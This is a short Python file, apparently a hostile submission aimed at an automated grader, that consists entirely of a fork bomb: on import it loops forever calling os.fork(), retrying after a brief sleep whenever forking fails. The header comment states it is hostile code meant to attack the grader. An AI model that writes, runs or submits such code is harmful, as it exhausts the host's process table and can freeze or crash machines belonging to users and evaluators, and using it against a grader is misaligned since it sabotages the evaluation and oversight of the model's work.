# ruff: noqa  (hostile code written to attack the grader, not to be tidy)
"""Forks without end as soon as it is imported."""

import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.001)
